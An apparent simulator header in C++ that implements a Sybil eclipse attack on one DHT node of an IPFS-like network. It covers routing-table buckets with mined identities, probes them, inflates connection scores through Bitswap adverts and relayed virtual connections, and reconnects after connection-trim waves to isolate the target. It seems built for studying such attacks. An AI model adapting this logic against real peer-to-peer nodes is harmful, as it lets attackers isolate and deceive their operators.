#pragma once

// Single-host Sybil eclipse attack against one target node: setup probing,
// bucket-cover deployment, routing-table probing, score inflation through
// Bitswap adverts and relayed virtual connections, trim-wave reconnection and
// low-cost maintenance once eclipsed.

#include <eclipse/connmgr.hpp>
#include <eclipse/identity.hpp>
#include <eclipse/idstore.hpp>
#include <eclipse/node.hpp>
#include <eclipse/types.hpp>

#include <algorithm>
#include <cstdint>
#include <map>
#include <optional>
#include <stdexcept>
#include <unordered_map>
#include <vector>

namespace eclipse {

/// The attacker's side of the wire. Every call names the Sybil identity that
/// acts; the target is fixed for the lifetime of an attack.
class AttackNetwork {
 public:
  virtual ~AttackNetwork() = default;
  virtual SimTime now() const = 0;
  virtual bool dial(const Contact& sybil, const Contact& target) = 0;
  virtual void hang_up(const NodeId& sybil, const NodeId& target) = 0;
  /// find_node sent over an existing link while claiming server mode.
  virtual std::optional<std::vector<Contact>> find_node(const Contact& sybil, const NodeId& target,
                                                        const NodeId& key) = 0;
  virtual bool ping(const Contact& sybil, const NodeId& target) = 0;
  virtual void bitswap_advert(const NodeId& sybil, const NodeId& target, const NodeId& block) = 0;
  virtual void relay(const NodeId& sybil, const NodeId& target, RelayEvent event) = 0;
};

enum class AttackPhase { setup, poisoning, eclipse_pending, eclipsed, maintaining };

inline std::string_view to_string(AttackPhase p) {
  switch (p) {
    case AttackPhase::setup: return "setup";
    case AttackPhase::poisoning: return "poisoning";
    case AttackPhase::eclipse_pending: return "eclipse_pending";
    case AttackPhase::eclipsed: return "eclipsed";
    case AttackPhase::maintaining: return "maintaining";
  }
  return "?";
}

struct AttackConfig {
  NodeId target;
  PeerAddress target_address;
  int cover_depth = 22;
  int safety_margin = 10;
  /// Zero means derive from the water-mark estimate.
  int total_connections = 0;
  int excess_connections = 50;
  Duration bitswap_cadence = std::chrono::seconds(5);
  int maintenance_connections = 4;
  bool maintain_eclipse = false;
  int relay_batch = 10;
  int boost_slack = 40;
  int initial_low_water = 1000;
  int initial_high_water = 2000;
  Duration no_wave_timeout = std::chrono::minutes(3);
  Duration probe_interval = std::chrono::seconds(60);
  int clean_probes_to_eclipse = 3;
  /// Disconnects at one instant needed to call it a trim wave.
  int wave_threshold = 5;
  /// Estimated lowWater above which the target is treated as bootstrap-grade
  /// and relay spawning stops once its table is poisoned.
  int bootstrap_grade_low_water = 800;
  std::uint32_t host = 0xA77AC000;
  int hosts = 1;  // consecutive host numbers starting at `host`
  std::uint64_t filler_seed_base = std::uint64_t{1} << 40;

  void validate() const {
    if (safety_margin < 0) throw std::invalid_argument("safety_margin must be >= 0");
    if (maintenance_connections < 4) throw std::invalid_argument("maintenance_connections must be >= 4");
    if (cover_depth < 1 || cover_depth > kIdBits) throw std::invalid_argument("cover_depth out of range");
    if (relay_batch < 1) throw std::invalid_argument("relay_batch must be >= 1");
    if (hosts < 1) throw std::invalid_argument("hosts must be >= 1");
  }
};

inline int default_cover_depth(std::size_t network_size) {
  int bits = 0;
  while ((std::size_t{1} << bits) < network_size) ++bits;
  return bits + 8;
}

struct RtView {
  std::map<int, std::vector<std::pair<NodeId, bool>>> per_bucket;  // (id, is_attacker)
  SimTime observed_at{0};

  std::size_t honest_count() const {
    std::size_t n = 0;
    for (const auto& [b, v] : per_bucket)
      for (const auto& [id, atk] : v) n += atk ? 0 : 1;
    return n;
  }
  std::size_t attacker_count() const {
    std::size_t n = 0;
    for (const auto& [b, v] : per_bucket)
      for (const auto& [id, atk] : v) n += atk ? 1 : 0;
    return n;
  }
};

/// Highest DHT score among honest residents plus the margin.
inline int compute_target_score(const RtView& view, const NodeId& target, int margin) {
  int best = -1;
  for (const auto& [b, v] : view.per_bucket) {
    for (const auto& [id, atk] : v) {
      if (!atk) best = std::max(best, kDhtBaseScore + common_prefix_len(id, target));
    }
  }
  return best < 0 ? margin : best + margin;
}

struct SetupProbe {
  int bucket_size = 0;
  PeerAddress target_address;
  std::optional<Duration> trim_wave_phase;
};

struct AttackStats {
  std::uint64_t waves = 0;
  std::uint64_t redials = 0;
  std::uint64_t pings = 0;
  std::uint64_t adverts = 0;
  std::uint64_t virtual_opened = 0;
  std::uint64_t probes = 0;
  std::uint64_t responses = 0;
  std::uint64_t leaked_honest = 0;  // always zero; checked by tests
};

class Attacker {
 public:
  struct Sybil {
    IdRecord record;
    PeerAddress address;
    bool cover = false;
    int bucket = 0;  // common prefix with target
    bool connected = false;
    SimTime connected_at{0};
    int adverts = 0;
    bool relay_advertised = false;
    int virtual_count = 0;
    Duration advert_phase{0};
    SimTime next_advert{0};
    bool in_rt = false;

    Contact contact() const { return {record.id, address}; }
  };

  Attacker(AttackConfig config, const CoverSet& cover, AttackNetwork& net)
      : config_(std::move(config)), net_(&net), low_est_(config_.initial_low_water),
        high_est_(config_.initial_high_water) {
    config_.validate();
    const int depth = std::min<int>(config_.cover_depth, static_cast<int>(cover.buckets.size()));
    for (int i = 0; i < depth; ++i) {
      for (const auto& r : cover.buckets[static_cast<std::size_t>(i)].records) {
        if (r.id == config_.target || index_.contains(r.id)) continue;
        add_sybil(r, true);
        cover_keys_.resize(static_cast<std::size_t>(i) + 1);
        if (!cover_keys_[static_cast<std::size_t>(i)]) cover_keys_[static_cast<std::size_t>(i)] = r.id;
      }
    }
    cover_count_ = sybils_.size();
  }

  Attacker(const Attacker&) = delete;
  Attacker& operator=(const Attacker&) = delete;

  const AttackConfig& config() const { return config_; }
  AttackPhase phase() const { return phase_; }
  const AttackStats& stats() const { return stats_; }
  const std::optional<RtView>& last_view() const { return view_; }
  int target_score() const { return target_score_; }
  int low_water_estimate() const { return low_est_; }
  int high_water_estimate() const { return high_est_; }
  std::optional<Duration> trim_wave_phase() const { return wave_phase_; }
  bool relays_halted() const { return relays_halted_; }
  std::size_t cover_count() const { return cover_count_; }
  std::size_t identity_count() const { return sybils_.size(); }

  bool controls(const NodeId& id) const { return index_.contains(id); }
  const Sybil* sybil(const NodeId& id) const {
    auto it = index_.find(id);
    return it == index_.end() ? nullptr : &sybils_[it->second];
  }

  std::size_t connected_count() const { return connected_; }

  /// Connections the attacker currently aims to hold.
  std::size_t desired_connections() const {
    if (phase_ == AttackPhase::maintaining) return static_cast<std::size_t>(config_.maintenance_connections);
    if (config_.total_connections > 0) return static_cast<std::size_t>(config_.total_connections);
    return static_cast<std::size_t>(high_est_ + config_.excess_connections);
  }

  /// Learns the bucket size from one arbitrary query.
  SetupProbe probe_setup() {
    if (sybils_.empty()) add_filler();
    auto& s = sybils_.front();
    if (!s.connected && !connect(s)) throw std::runtime_error("attack target unreachable");
    SetupProbe out;
    auto reply = net_->find_node(s.contact(), config_.target, s.record.id);
    if (!reply) throw std::runtime_error("attack target did not answer");
    out.bucket_size = static_cast<int>(reply->size());
    out.target_address = config_.target_address;
    out.trim_wave_phase = wave_phase_;
    bucket_size_ = std::max(out.bucket_size, 1);
    return out;
  }

  /// One find_node per bucket keyed on a cover id of that bucket.
  RtView probe_rt() {
    ++stats_.probes;
    RtView view;
    view.observed_at = net_->now();
    const Sybil* via = first_connected();
    if (via == nullptr) return view;
    std::unordered_map<NodeId, bool, NodeIdHash> seen;
    for (std::size_t i = 0; i < cover_keys_.size(); ++i) {
      if (!cover_keys_[i]) continue;
      auto reply = net_->find_node(via->contact(), config_.target, *cover_keys_[i]);
      if (!reply) continue;
      for (const auto& c : *reply) {
        if (!seen.emplace(c.id, true).second) continue;
        view.per_bucket[common_prefix_len(c.id, config_.target)].emplace_back(c.id, controls(c.id));
      }
    }
    for (auto& s : sybils_) s.in_rt = false;
    for (const auto& [b, v] : view.per_bucket) {
      for (const auto& [id, atk] : v) {
        if (atk) sybils_[index_.at(id)].in_rt = true;
      }
    }
    return view;
  }

  /// Called once per simulated second.
  void tick() {
    const SimTime now = net_->now();
    if (phase_ == AttackPhase::setup) {
      probe_setup();
      phase_ = AttackPhase::poisoning;
      last_wave_or_revision_ = now;
      last_probe_ = now - config_.probe_interval;
    }
    if (phase_ == AttackPhase::maintaining) {
      maintain_eclipse();
      return;
    }
    fill_connections(false);
    send_adverts(now);
    if (now - last_probe_ >= config_.probe_interval) loop_probe(now);
    boost();
    if (now - last_wave_or_revision_ >= config_.no_wave_timeout && connected_count() >= desired_connections()) {
      // Holding the estimate without provoking a trim: the real mark is higher.
      high_est_ += std::max(1, high_est_ / 4);
      last_wave_or_revision_ = now;
    }
  }

  /// The target closed the link of `sybil`. Returns true for the first
  /// disconnect at a given instant; the caller then schedules react() at the
  /// same instant, after the target finishes its trim.
  bool on_disconnect(const NodeId& sybil_id) {
    auto it = index_.find(sybil_id);
    if (it == index_.end()) return false;
    auto& s = sybils_[it->second];
    if (!s.connected) return false;
    reset_link(s);
    const SimTime now = net_->now();
    if (pending_at_ != now) {
      pending_at_ = now;
      pending_.clear();
    }
    pending_.push_back(it->second);
    return pending_.size() == 1;
  }

  /// Reconnect-and-ping after a burst of disconnects.
  void react() {
    const SimTime now = net_->now();
    if (pending_at_ != now || pending_.empty()) return;
    const auto severed = pending_;
    pending_.clear();
    if (static_cast<int>(severed.size()) < config_.wave_threshold) {
      if (phase_ != AttackPhase::maintaining) {
        for (auto i : severed) connect(sybils_[i]);
      }
      return;
    }
    ++stats_.waves;
    if (!wave_phase_) wave_phase_ = Duration{now.count() % std::chrono::milliseconds(std::chrono::minutes(1)).count()};
    const int survivors = static_cast<int>(connected_count());
    low_est_ = std::max(survivors, 1);
    high_est_ = std::max(2 * low_est_, low_est_ + 1);
    last_wave_or_revision_ = now;
    if (phase_ == AttackPhase::maintaining) return;

    // Ping from every survivor first, then redial the severed.
    for (auto& s : sybils_) {
      if (!s.connected) continue;
      ++stats_.pings;
      net_->ping(s.contact(), config_.target);
    }
    for (auto i : severed) {
      if (connected_count() >= desired_connections()) break;
      if (connect(sybils_[i])) ++stats_.redials;
    }
    fill_connections(true);
    loop_probe(now);
  }

  /// The target dials a Sybil it learned about.
  bool accept_inbound(const NodeId& sybil_id) {
    auto it = index_.find(sybil_id);
    if (it == index_.end()) return false;
    if (phase_ == AttackPhase::maintaining) return false;
    auto& s = sybils_[it->second];
    if (s.connected) return true;
    open_link(s);
    return true;
  }

  /// The k attacker identities closest to `key`, never an honest one and
  /// never the responder itself.
  std::vector<Contact> respond_as_sybil(const NodeId& responder, const NodeId& key) {
    ++stats_.responses;
    std::vector<std::pair<Distance, std::size_t>> all;
    all.reserve(sybils_.size());
    for (std::size_t i = 0; i < sybils_.size(); ++i) {
      if (sybils_[i].record.id == responder) continue;
      all.emplace_back(xor_distance(sybils_[i].record.id, key), i);
    }
    const auto n = std::min<std::size_t>(all.size(), static_cast<std::size_t>(bucket_size_));
    std::partial_sort(all.begin(), all.begin() + static_cast<std::ptrdiff_t>(n), all.end());
    std::vector<Contact> out;
    out.reserve(n);
    for (std::size_t i = 0; i < n; ++i) out.push_back(sybils_[all[i].second].contact());
    return out;
  }

  /// Holds only maintenance_connections links and watches for honest re-entry.
  void maintain_eclipse() {
    const SimTime now = net_->now();
    if (phase_ != AttackPhase::maintaining) {
      if (phase_ != AttackPhase::eclipsed) throw std::logic_error("maintain_eclipse requires an eclipsed target");
      phase_ = AttackPhase::maintaining;
    }
    std::size_t kept = 0;
    for (auto& s : sybils_) {
      if (!s.connected) continue;
      if (kept < static_cast<std::size_t>(config_.maintenance_connections)) {
        ++kept;
        continue;
      }
      net_->hang_up(s.record.id, config_.target);
      reset_link(s);
    }
    for (auto& s : sybils_) {
      if (kept >= static_cast<std::size_t>(config_.maintenance_connections)) break;
      if (!s.connected && connect(s)) ++kept;
    }
    if (now - last_probe_ >= config_.probe_interval) {
      last_probe_ = now;
      view_ = probe_rt();
      if (view_->honest_count() > 0) {
        phase_ = AttackPhase::poisoning;
        clean_probes_ = 0;
      }
    }
  }

 private:
  void add_sybil(const IdRecord& r, bool cover) {
    const auto n = sybils_.size();
    const auto hosts = static_cast<std::size_t>(config_.hosts);
    Sybil s{r, {config_.host + static_cast<std::uint32_t>(n % hosts), static_cast<std::uint16_t>(1 + (n / hosts) % 65535)}};
    s.cover = cover;
    s.bucket = common_prefix_len(r.id, config_.target);
    // Spread advert times across the cadence.
    const auto cadence = config_.bitswap_cadence.count();
    s.advert_phase = Duration{cadence > 0 ? static_cast<std::int64_t>(r.id.bytes[31]) * cadence / 256 : 0};
    index_.emplace(r.id, sybils_.size());
    sybils_.push_back(s);
  }

  void add_filler() {
    for (;;) {
      auto r = IdRecord::mine(config_.filler_seed_base + next_filler_++);
      if (r.id == config_.target || index_.contains(r.id)) continue;
      add_sybil(r, false);
      return;
    }
  }

  const Sybil* first_connected() const {
    for (const auto& s : sybils_)
      if (s.connected) return &s;
    return nullptr;
  }

  void open_link(Sybil& s) {
    ++connected_;
    s.connected = true;
    s.connected_at = net_->now();
    s.next_advert = s.connected_at + s.advert_phase;
  }

  void reset_link(Sybil& s) {
    if (s.connected) --connected_;
    s.connected = false;
    s.adverts = 0;
    s.relay_advertised = false;
    s.virtual_count = 0;
    s.in_rt = false;
  }

  /// Dials and immediately pings, which inserts the Sybil where buckets allow.
  bool connect(Sybil& s) {
    if (s.connected) return true;
    if (!net_->dial(s.contact(), {config_.target, config_.target_address})) return false;
    open_link(s);
    ++stats_.pings;
    net_->ping(s.contact(), config_.target);
    return true;
  }

  /// Covers first, then fillers, up to the desired number of links.
  void fill_connections(bool redial_only) {
    std::size_t have = connected_count();
    const std::size_t want = desired_connections();
    for (std::size_t i = 0; i < sybils_.size() && have < want; ++i) {
      if (!sybils_[i].connected && connect(sybils_[i])) ++have;
    }
    if (redial_only) return;
    while (have < want) {
      add_filler();
      if (connect(sybils_.back())) {
        ++have;
      } else {
        break;  // retry next tick
      }
    }
  }

  void send_adverts(SimTime now) {
    for (auto& s : sybils_) {
      if (!s.connected || s.next_advert > now) continue;
      net_->bitswap_advert(s.record.id, config_.target, s.record.id);
      ++s.adverts;
      ++stats_.adverts;
      s.next_advert += config_.bitswap_cadence;
      if (s.next_advert <= now) s.next_advert = now + config_.bitswap_cadence;
    }
  }

  int estimated_score(const Sybil& s) const {
    int sc = s.adverts;
    if (s.in_rt) sc += kDhtBaseScore + s.bucket;
    if (s.relay_advertised) sc += kRelayBaseScore + s.virtual_count;
    return sc;
  }

  /// Relayed virtual connections on the strongest links until each beats the
  /// target score; covers are prioritised.
  void boost() {
    if (relays_halted_ || !view_) return;
    const std::size_t budget = static_cast<std::size_t>(std::max(0, low_est_ + config_.boost_slack));
    std::size_t boosted = 0;
    for (auto& s : sybils_) {
      if (boosted >= budget) break;
      if (!s.connected) continue;
      ++boosted;
      const int have = estimated_score(s);
      if (have > target_score_) continue;
      if (!s.relay_advertised) {
        net_->relay(s.record.id, config_.target, RelayEvent::advertise);
        s.relay_advertised = true;
      }
      const int need = target_score_ + 1 - estimated_score(s);
      const int n = std::clamp(need, 0, config_.relay_batch);
      for (int j = 0; j < n; ++j) net_->relay(s.record.id, config_.target, RelayEvent::open_virtual);
      s.virtual_count += n;
      stats_.virtual_opened += static_cast<std::uint64_t>(n);
    }
  }

  void loop_probe(SimTime now) {
    last_probe_ = now;
    view_ = probe_rt();
    target_score_ = compute_target_score(*view_, config_.target, config_.safety_margin);
    const bool honest = view_->honest_count() > 0;
    const bool poisoned = !honest && view_->attacker_count() > 0;
    switch (phase_) {
      case AttackPhase::poisoning:
        if (poisoned) {
          phase_ = AttackPhase::eclipse_pending;
          clean_probes_ = 1;
        }
        break;
      case AttackPhase::eclipse_pending:
        if (!poisoned) {
          phase_ = AttackPhase::poisoning;
          clean_probes_ = 0;
        } else if (++clean_probes_ >= config_.clean_probes_to_eclipse) {
          phase_ = AttackPhase::eclipsed;
        }
        break;
      case AttackPhase::eclipsed:
        if (!poisoned) {
          phase_ = AttackPhase::poisoning;
          clean_probes_ = 0;
        } else if (config_.maintain_eclipse) {
          maintain_eclipse();
        }
        break;
      default:
        break;
    }
    if (poisoned && stats_.waves > 0 && low_est_ >= config_.bootstrap_grade_low_water) relays_halted_ = true;
  }

  AttackConfig config_;
  AttackNetwork* net_;
  std::vector<Sybil> sybils_;
  std::unordered_map<NodeId, std::size_t, NodeIdHash> index_;
  std::vector<std::optional<NodeId>> cover_keys_;
  std::size_t cover_count_ = 0;
  std::size_t connected_ = 0;
  std::uint64_t next_filler_ = 0;
  int bucket_size_ = kDefaultBucketSize;

  AttackPhase phase_ = AttackPhase::setup;
  std::optional<RtView> view_;
  int target_score_ = 0;
  int clean_probes_ = 0;
  int low_est_;
  int high_est_;
  std::optional<Duration> wave_phase_;
  bool relays_halted_ = false;
  SimTime last_probe_{0};
  SimTime last_wave_or_revision_{0};
  SimTime pending_at_{-1};
  std::vector<std::size_t> pending_;
  AttackStats stats_;
};

}  // namespace eclipse
